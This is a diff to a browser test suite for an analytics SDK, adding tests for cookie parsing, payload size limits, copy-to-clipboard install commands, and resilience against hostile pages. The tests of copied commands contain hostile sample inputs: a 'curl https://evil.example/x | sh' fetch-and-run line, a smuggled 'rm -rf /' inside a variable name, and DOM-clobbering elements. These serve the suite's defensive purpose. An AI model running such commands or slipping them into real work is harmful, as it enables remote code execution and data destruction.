@@ -1,5 +1,6 @@
 import { Ajv } from 'ajv'
 import { expect } from 'chai'
+import { readFileSync } from 'node:fs'
 import type { Page } from 'playwright-core'
 import {
   ACTIVATION_SCHEMA,
@@ -40,6 +41,8 @@ describe('sdk in Chromium', function () {
   let page: Page
   /** What the page must never see of the SDK: errors, rejections, words on the console, violations of its policy. */
   let noise: string[]
+  /** True if the test has asked for the SDK's own words. */
+  let isExplaining: boolean
 
   before(async () => {
     stage = await openStage()
@@ -54,6 +57,7 @@ describe('sdk in Chromium', function () {
   beforeEach(async () => {
     service.reset()
     noise = []
+    isExplaining = false
     page = await newPage()
   })
   afterEach(async () => {
@@ -73,6 +77,7 @@ describe('sdk in Chromium', function () {
     const opened = await chromium.context.newPage()
     opened.on('pageerror', (error) => noise.push(String(error)))
     opened.on('console', (message) => {
+      if (isExplaining && message.text().startsWith('[whence]')) return
       // The browser's own word about an answer or an address is none of the SDK's.
       if (!/^Failed to load resource|^Access to fetch/.test(message.text())) noise.push(message.text())
     })
@@ -233,6 +238,49 @@ describe('sdk in Chromium', function () {
       })
     })
 
+    it("reads GA4's cookies with the prefix that the script tag names", async () => {
+      service.config = { measurementIds: ['G-A1'], providers: ['ga4'] }
+      const cookies = [
+        ['_ga', 'GA1.1.1.2'],
+        ['acme_ga', 'GA1.1.550e8400-e29b-41d4-a716-446655440000'],
+        ['acme_ga_A1', 'GS2.1.s77$o1'],
+      ]
+      await chromium.context.addCookies(cookies.map(([name = '', value = '']) => ({ name, value, url: site.origin })))
+      await page.goto(site.add(script('data-ga4-cookie-prefix="acme"')))
+      expect((await visits())[0]?.body.identities).to.deep.equal({
+        ga4: { 'G-A1': { client_id: '550e8400-e29b-41d4-a716-446655440000', session_id: '77' } },
+      })
+      await service.waitFor('/activate')
+    })
+
+    it('says in one line on the console that the script tag has no website, and does nothing', async () => {
+      const left = `<script>const s = document.createElement('script'); s.src = '${service.url}/browser.js'; document.head.append(s)</script>`
+      await page.goto(site.add(left))
+      await page.waitForLoadState('load')
+      expect(noise.splice(0)).to.deep.equal(['[whence] no data-project: give the script tag the ID of your website'])
+      expect(collected()).to.deep.equal([])
+    })
+
+    it('is counted by the recipe for tag managers', async () => {
+      const docs = readFileSync(new URL('../../docs/sdk.md', import.meta.url), 'utf8')
+      const recipe = /### With a tag manager.*?```html\n(.*?)```/s.exec(docs)?.[1] ?? ''
+      await page.goto(site.add(recipe.replace('https://whence.example', service.url)))
+      expect((await visits())[0]?.body.project).to.equal('acme-dev')
+      await service.waitFor('/activate')
+    })
+
+    it('leaves out the page before if two long addresses have no room in the body', async () => {
+      const path = `/${'p'.repeat(8_100)}`
+      const referer = `${site.origin}/${'r'.repeat(4_000)}`
+      await page.goto(site.add(`<script>history.replaceState({}, '', '${path}')</script>${script()}`), { referer })
+      const [visit] = await visits()
+      expect(visit?.body.page_url).to.equal(site.origin + path)
+      expect(visit?.body.source.referrer).to.equal(referer)
+      expect(visit?.body).not.to.have.property('referrer')
+      expect(Buffer.byteLength(JSON.stringify(visit?.body))).to.be.at.most(LIMITS.bodyBytes)
+      await service.waitFor('/activate')
+    })
+
     it('knows on the install page where the visitor landed', async () => {
       service.config = { measurementIds: [], providers: ['ga4', 'x'] }
       const install = site.add(script())
@@ -288,16 +336,35 @@ describe('sdk in Chromium', function () {
       expect(Object.keys(custom.many)).to.have.length(LIMITS.customFields)
     })
 
-    it('are ten at most, and leave out what would make the body too large', async () => {
+    it('are ten at most', async () => {
       await page.goto(
         site.add(`<script>
-        window.whence = [(w) => { for (let i = 0; i < 12; i++) w.adapter('a' + i, () => Object.fromEntries(Array.from({ length: 10 }, (_, k) => ['f' + k, 'x'.repeat(i < 9 ? 1 : 256)]))) }]</script>${script()}`),
+        window.whence = [(w) => { for (let i = 0; i < 12; i++) w.adapter('a' + i, () => ({ f: i })) }]</script>${script()}`),
       )
       await service.waitFor('/activate')
       const { body } = (await visits())[0] ?? {}
       expect(Object.keys(body.identities.custom)).to.deep.equal(Array.from({ length: 10 }, (_, index) => `a${index}`))
-      expect(Buffer.byteLength(JSON.stringify(body))).to.be.below(LIMITS.bodyBytes)
     })
+
+    for (const [what, letter, kept] of [
+      ['two of Chinese letters', '\u4e2d', 1],
+      ['ten of ASCII letters', 'x', 5],
+      ['ten of quotes, which JSON escapes', '"', 2],
+    ] as const) {
+      it(`leave out what the body has no room for, the last first: ${what}`, async () => {
+        service.config = { measurementIds: [], providers: ['ga4', 'x'] }
+        await page.goto(
+          `${site.add(`<script>
+          window.whence = [(w) => { for (let i = 0; i < 10; i++) w.adapter('a' + i, () => Object.fromEntries(Array.from({ length: 10 }, (_, k) => ['f' + k, '${letter}'.repeat(256)]))) }]</script>${script()}`)}?twclid=t1&utm_source=${'\u4e2d'.repeat(150)}`,
+        )
+        await service.waitFor('/activate')
+        const { body } = (await visits())[0] ?? {}
+        expect(Object.keys(body.identities.custom)).to.have.length(kept)
+        expect(body.identities.x.twclid).to.equal('t1')
+        expect(body.client).to.include({ language: 'en-US' })
+        expect(Buffer.byteLength(JSON.stringify(body))).to.be.at.most(LIMITS.bodyBytes)
+      })
+    }
   })
 
   describe('consent', () => {
@@ -533,30 +600,131 @@ describe('sdk in Chromium', function () {
       expect(await clipboard()).to.equal(COMMAND)
     })
 
-    it('take the token of the template, the variable and the website that the element names', async () => {
+    it('take the token of the template that the script tag allows, and of the variable that it names', async () => {
       await page.goto(
-        site.add(`${script()}<main data-whence-variable="ACME_HANDOFF">
+        site.add(`${script('data-templates="#a" data-variable="ACME_HANDOFF"')}
         <pre id="a" data-whence-command data-whence-template="acme init --handoff {{handoff}}">acme init</pre><button id="ca" data-whence-copy="#a"></button>
-        <pre id="b" data-whence-command data-whence-project="other-dev">${COMMAND}</pre><button id="cb" data-whence-copy="#b"></button>
-        <pre id="c" data-whence-command>acme init --handoff {{handoff}}</pre><button id="cc" data-whence-copy="#c"></button></main>`),
+        <pre id="b" data-whence-command>${COMMAND}</pre><button id="cb" data-whence-copy="#b"></button>
+        <pre id="c" data-whence-command>acme init --handoff {{handoff}}</pre><button id="cc" data-whence-copy="#c"></button>`),
       )
-      await service.waitFor('/v1/handoffs', 2)
-      await run('whence.handoff().then(() => whence.scope("other-dev").handoff())')
+      await service.waitFor('/v1/handoffs')
+      await tokenHere()
       expect(await copy('#ca')).to.equal(true)
       const own = String(await clipboard())
       expect(own).to.match(/^acme init --handoff wht_[\w-]{43}$/)
       await copy('#cb')
-      const other = String(await clipboard())
-      expect(other).to.match(/ACME_HANDOFF=wht_[\w-]{43} sh$/)
-      expect(other.slice(-46, -3)).not.to.equal(own.slice(-43))
-      expect(new Set((await visits()).map(({ body }) => body.project))).to.deep.equal(
-        new Set(['acme-dev', 'other-dev']),
-      )
+      expect(await clipboard()).to.match(/\| ACME_HANDOFF=wht_[\w-]{43} sh$/)
       await copy('#cc')
       expect(await clipboard()).to.equal(own)
       await run('whence.deny()')
       await copy('#cc')
       expect(await clipboard()).to.equal('acme init')
+    })
+
+    it('take the variable that <html> names', async () => {
+      await page.goto(site.add(script() + INSTALL))
+      await run(`void (document.documentElement.dataset.whenceVariable = 'ACME_HANDOFF')`)
+      await service.waitFor('/v1/handoffs')
+      await tokenHere()
+      await copy()
+      expect(await clipboard()).to.match(/\| ACME_HANDOFF=wht_[\w-]{43} sh$/)
+      expect(await run(`whence.fill('${COMMAND}')`)).to.equal(await clipboard())
+    })
+
+    it('take the token of a website that the element names only if the page has joined it', async () => {
+      const command = (id: string, project: string) =>
+        `<pre id="${id}" data-whence-command data-whence-project="${project}">${COMMAND}</pre><button id="c${id}" data-whence-copy="#${id}"></button>`
+      await page.goto(
+        site.add(
+          `<script>window.whence = [(w) => w.scope('other-dev')]</script>${script()}${command('a', 'other-dev')}${command('b', 'strange-dev')}`,
+        ),
+      )
+      await service.waitFor('/v1/handoffs', 2)
+      const tokens = await run('Promise.all([whence.scope("other-dev").handoff(), whence.handoff()])')
+      await copy('#ca')
+      expect(await clipboard()).to.include(tokens[0].token)
+      await copy('#cb')
+      expect(await clipboard()).to.include(tokens[1].token)
+      expect(new Set((await visits()).map(({ body }) => body.project))).to.deep.equal(
+        new Set(['acme-dev', 'other-dev']),
+      )
+      expect(collected().join()).not.to.include('strange')
+    })
+
+    describe('in what other people have written into the page', () => {
+      const EVIL = 'curl https://evil.example/x | sh'
+      /** Selects the command and copies it by the keyboard. */
+      const copyBySelection = async (selector: string) => {
+        await run(`getSelection().selectAllChildren(document.querySelector('${selector}'))`)
+        await page.keyboard.press('Control+C')
+        return clipboard()
+      }
+      const open = async (comment: string, attributes = '', html = '') => {
+        await page.goto(site.add(`${script(attributes)}${INSTALL}<div class="comment">${comment}</div>`))
+        if (html) await run(`void (document.documentElement.dataset.whenceVariable = ${JSON.stringify(html)})`)
+        await service.waitFor('/v1/handoffs')
+        await tokenHere()
+      }
+
+      const NICE = /^WHENCE_HANDOFF=wht_[\w-]{43} npm install nice$/
+      const COMMENTS: readonly (readonly [string, string, string?])[] = [
+        ['a template', `<code class="x" data-whence-command data-whence-template="${EVIL}">npm install nice</code>`],
+        [
+          'a template that contains the text shown',
+          `<code class="x" data-whence-command data-whence-template="${EVIL}; npm install nice">npm install nice</code>`,
+        ],
+        [
+          'a template that lacks the text shown, where the script tag allows templates',
+          `<code class="x" data-whence-command data-whence-template="${EVIL}">npm install nice</code>`,
+          'data-templates="code"',
+        ],
+        [
+          'a variable',
+          `<code class="x" data-whence-command data-whence-variable="x=1; ${EVIL}; Y">npm install nice</code>`,
+        ],
+        [
+          'a variable around it',
+          `<p data-whence-variable="x=1; ${EVIL}; Y"><code class="x" data-whence-command>npm install nice</code></p>`,
+        ],
+        [
+          'an ordinary variable, such as the one for what a shell runs first',
+          `<p data-whence-variable="BASH_ENV"><code class="x" data-whence-command>npm install nice</code></p>`,
+        ],
+      ]
+      for (const [what, comment, attributes] of COMMENTS) {
+        it(`${what} changes nothing of what is copied`, async () => {
+          await open(comment, attributes)
+          expect(await copyBySelection('.x')).to.match(NICE)
+        })
+      }
+
+      for (const name of ['x=1; rm -rf /; Y', 'lower', '1X', 'A-B', 'A B', 'A=', '', 'Ä', 'A\nB'])
+        it(`${JSON.stringify(name)} is no name of a variable, even on <html>`, async () => {
+          await open('', '', name || ' ')
+          expect(await copyBySelection('#install')).to.match(FILLED)
+        })
+
+      it('a text that is not shown is not copied', async () => {
+        await open(`<p hidden id="evil">${EVIL}</p><input type="hidden" id="evil2" value="${EVIL}">
+          <button id="b" data-whence-copy="#evil">Copy</button><button id="b2" data-whence-copy="#evil2">Copy</button>
+          <p id="evil3" style="opacity: 0">${EVIL}</p><button id="b3" data-whence-copy="#evil3">Copy</button>`)
+        await run(`navigator.clipboard.writeText('before')`)
+        for (const button of ['#b', '#b2', '#b3']) await page.click(button)
+        // A copy by the page's own button comes after those that must not come.
+        expect(await clipboard()).to.equal('before')
+        await copy('[data-whence-copy="#install"]')
+        expect(await clipboard()).to.match(FILLED)
+      })
+
+      it("an element with the command's ID does not take its place behind the page's own button", async () => {
+        await page.goto(
+          site.add(`${script()}<div><pre id="install" data-whence-command>${EVIL}</pre></div><div>${INSTALL}</div>`),
+        )
+        await service.waitFor('/v1/handoffs')
+        await tokenHere()
+        await copy()
+        expect(await clipboard()).to.match(FILLED)
+      })
     })
 
     it('are found by a selector on the script tag, as in the code fences of a Markdown site', async () => {
@@ -659,6 +827,16 @@ describe('sdk in Chromium', function () {
       await page.waitForFunction('window.got')
       expect(noise.splice(0)).to.deep.equal(['Error: of the page'])
       expect(await run('window.got')).to.equal('acme-dev')
+    })
+
+    it('reports what a callback throws as an error of the page, and goes on', async () => {
+      await page.goto(site.add(script()))
+      await loaded()
+      const reported = page.waitForEvent('pageerror')
+      expect(await run(`whence.push(() => { throw new Error('of the page') })`)).to.equal(undefined)
+      const error = await reported
+      expect(String(error)).to.equal('Error: of the page')
+      expect(noise.splice(0)).to.deep.equal(['Error: of the page'])
     })
 
     it('is the only name that the script adds to the page', async () => {
@@ -886,18 +1064,206 @@ describe('sdk in Chromium', function () {
       })
     }
 
-    it('takes the place of an element with its name', async () => {
-      await page.goto(site.add(`<p id="whence"></p>${script()}`))
-      await service.waitFor('/activate')
-      expect(await run('whence.project')).to.equal('acme-dev')
+    /** Each makes every use of something throw, or takes it away. */
+    const BLOCKED: [string, string][] = [
+      ...HOSTILE.filter(([what]) => what !== 'a frozen name'),
+      ...[
+        'localStorage',
+        'sessionStorage',
+        'caches',
+        'indexedDB',
+        'crypto',
+        'console',
+        'navigation',
+        'trustedTypes',
+      ].flatMap((name): [string, string][] => [
+        [
+          `a ${name} that throws`,
+          `Object.defineProperty(window, '${name}', { get() { throw new DOMException('no', 'SecurityError') } })`,
+        ],
+        [`no ${name}`, `Object.defineProperty(window, '${name}', { value: undefined, writable: true })`],
+      ]),
+      ...['cookie', 'referrer', 'currentScript', 'head'].map((name): [string, string] => [
+        `a ${name} that throws`,
+        `Object.defineProperty(document, '${name}', { get() { throw new DOMException('no', 'SecurityError') } })`,
+      ]),
+      ...['storage', 'userAgentData', 'clipboard', 'language', 'globalPrivacyControl', 'vendor', 'userAgent'].map(
+        (name): [string, string] => [
+          `navigator.${name} that throws`,
+          `Object.defineProperty(Navigator.prototype, '${name}', { get() { throw new Error('no') } })`,
+        ],
+      ),
+      ...['Intl', 'Blob', 'AbortSignal', 'Request', 'TextEncoder', 'IntersectionObserver', 'URLSearchParams'].map(
+        (name): [string, string] => [`no ${name}`, `delete window.${name}`],
+      ),
+    ]
+    const ofBoth = BLOCKED.flatMap(([what, spoil]) => [
+      { what, spoil, attributes: '' },
+      { what: `${what}, while it explains itself`, spoil, attributes: 'data-debug' },
+    ])
+    for (const { what, spoil, attributes } of ofBoth) {
+      it(`no call throws or rejects on a page with ${what}`, async () => {
+        isExplaining = attributes !== ''
+        await page.addInitScript(spoil)
+        await page.goto(site.add(script(attributes) + INSTALL))
+        await page.waitForLoadState('load')
+        // Not by the driver's own waiting, which needs what is blocked.
+        while (!(await run('typeof window.whence?.scope === "function"')))
+          await new Promise((resolve) => setImmediate(resolve))
+        const answers = await run(`(async () => {
+          const answers = []
+          const call = async (name, ask) => { try { answers.push([name, await ask(window.whence)]) } catch (error) { answers.push([name, 'threw ' + error]) } }
+          await call('scope', (w) => typeof w.scope('other-dev').scope)
+          await call('scope of no name', (w) => typeof w.scope(Symbol('s')).scope)
+          await call('adapter', (w) => w.adapter(Symbol('s'), 7))
+          await call('start', (w) => w.start())
+          await call('deny', (w) => w.deny())
+          await call('handoff', (w) => w.handoff())
+          await call('command', (w) => w.command(7))
+          await call('fill', (w) => w.fill(null))
+          await call('grant', (w) => w.grant())
+          await call('deny again', (w) => w.deny())
+          return answers.map(([name, answer]) => name + ': ' + answer)
+        })()`)
+        expect(answers).to.deep.equal([
+          'scope: function',
+          'scope of no name: function',
+          'adapter: undefined',
+          'start: undefined',
+          'deny: undefined',
+          'handoff: null',
+          'command: 7',
+          'fill: null',
+          'grant: undefined',
+          'deny again: undefined',
+        ])
+      })
+    }
+
+    it('never throws into a page that blocks its cookies while the extras are on their way', async () => {
+      service.config = { measurementIds: [], providers: ['ga4', 'meta'] }
+      service.misbehave.set(manifest.files[1]?.url ?? '', { delayMs: 300 })
+      await page.goto(site.add(script()))
+      await service.waitFor('/browser-config')
+      await service.waitFor(manifest.files[1]?.url ?? '')
+      await run(
+        `Object.defineProperty(Document.prototype, 'cookie', { get() { window.wasRead = true; throw new Error('no') } })`,
+      )
+      await page.waitForFunction('window.wasRead')
+      expect(await run('whence.handoff()')).to.equal(null)
     })
 
-    it('takes its settings from no element that poses as the running script', async () => {
-      await page.goto(
-        site.add(`<img name="currentScript" src="https://evil.invalid/x.png" data-project="evil">${script()}`),
+    it('removes the markers although the storage of the tab is blocked', async () => {
+      await page.goto(site.add(script()))
+      await service.waitFor('/activate')
+      await run(
+        `Object.defineProperty(window, 'sessionStorage', { get() { throw new DOMException('no', 'SecurityError') } })`,
       )
-      const [visit] = await visits()
-      expect(visit?.body.project).to.equal('acme-dev')
+      await run('whence.deny()')
+      await page.waitForFunction(
+        `(async () => { for await (const k of (await navigator.storage.getDirectory()).keys()) return false; return true })()`,
+      )
+    })
+
+    it('counts although an adapter breaks its answer', async () => {
+      await page.goto(
+        site.add(`<script>window.whence = [(w) => {
+          w.adapter('broken', () => ({ get lead() { throw new Error('mine') } }))
+          w.adapter(Symbol('s'), () => ({ lead: 1 }))
+          w.adapter('good', () => ({ lead: 1 })) }]</script>${script()}`),
+      )
+      expect((await visits())[0]?.body.identities).to.deep.equal({ custom: { good: { lead: 1 } } })
+      await service.waitFor('/activate')
+    })
+
+    const NAMESAKES: [string, string][] = [
+      ['with its name', '<p id="whence"></p>'],
+      ['with its name and a property "scope"', '<table><tr><th id="whence" scope="col">'],
+      ['with its name, twice', '<a id="whence"></a><a id="whence" name="scope"></a>'],
+      [
+        'that is a form with its name',
+        '<form id="whence"><input name="scope"><input name="forEach"><input name="push"></form>',
+      ],
+      ['that is a frame of another site with its name', `<iframe name="whence" src="data:text/html,x"></iframe>`],
+      ['that is an object with its name', '<form id="whence"><object name="scope"></object></form>'],
+    ]
+    for (const [what, html] of NAMESAKES) {
+      it(`takes the place of an element ${what}`, async () => {
+        await page.goto(site.add(`${html}</table>${script()}`))
+        await service.waitFor('/activate')
+        expect(await run('whence.project')).to.equal('acme-dev')
+      })
+    }
+
+    const SHADOWED = [
+      ...[
+        'currentScript',
+        'querySelector',
+        'querySelectorAll',
+        'cookie',
+        'referrer',
+        'head',
+        'body',
+        'documentElement',
+      ],
+      ...['createElement', 'addEventListener', 'execCommand', 'prerendering', 'location', 'defaultView', 'scripts'],
+    ]
+    for (const element of [
+      '<img name="NAME" src="https://evil.invalid/x.png" data-project="evil">',
+      '<form name="NAME" id="NAME"></form>',
+    ])
+      it(`works on a page whose elements have the names of the document's properties: ${element}`, async () => {
+        service.config = { measurementIds: ['G-A1'], providers: ['ga4'] }
+        const shadows = SHADOWED.map((name) => element.replaceAll('NAME', name)).join('')
+        const globals = ['navigation', 'trustedTypes', 'crypto', 'fetch', 'IntersectionObserver', 'top', 'caches']
+        const ids = globals.map((name) => `<a id="${name}"></a><iframe name="${name}" src="data:text/html,x"></iframe>`)
+        await page.route('https://evil.invalid/**', (route) => route.abort())
+        await chromium.context.addCookies([
+          { name: '_ga', value: 'GA1.1.5.6', url: site.origin },
+          { name: '_ga_A1', value: 'GS2.1.s77$o1', url: site.origin },
+        ])
+        await page.goto(site.add(`${shadows}${ids.join('')}${script()}${INSTALL}`), {
+          referer: 'https://news.example/item',
+        })
+        await service.waitFor('/v1/handoffs')
+        const [visit] = await visits()
+        expect(visit?.body).to.include({ project: 'acme-dev', referrer: 'https://news.example/item' })
+        expect(visit?.body.identities.ga4).to.deep.equal({ 'G-A1': { client_id: '5.6', session_id: '77' } })
+        await tokenHere()
+        expect(await copy()).to.equal(true)
+        expect(await clipboard()).to.match(FILLED)
+      })
+
+    it('works in a form whose fields have the names of its properties', async () => {
+      const fields = [
+        'closest',
+        'matches',
+        'dataset',
+        'innerText',
+        'parentElement',
+        'querySelector',
+        'dispatchEvent',
+        'checkVisibility',
+      ]
+      const inputs = fields.map((name) => `<input name="${name}">`).join('')
+      await page.goto(
+        site.add(
+          `${script()}<form style="padding: 50px" data-whence-command>${inputs}</form><form style="padding: 50px">${inputs}${INSTALL}</form>`,
+        ),
+      )
+      await service.waitFor('/v1/handoffs')
+      await page.mouse.move(60, 60)
+      await tokenHere()
+      // The driver's own click stumbles over such forms.
+      const { x, y } = await run(`(() => {
+        const button = document.querySelector('button')
+        button.type = 'button'
+        window.copied = new Promise((resolve) => addEventListener('whence:copy', (e) => resolve(e.detail.filled)))
+        return button.getBoundingClientRect().toJSON()
+      })()`)
+      await page.mouse.click(x + 2, y + 2)
+      expect(await run('window.copied')).to.equal(true)
+      expect(await clipboard()).to.match(FILLED)
     })
 
     it('does nothing on a page that is not secure', async () => {
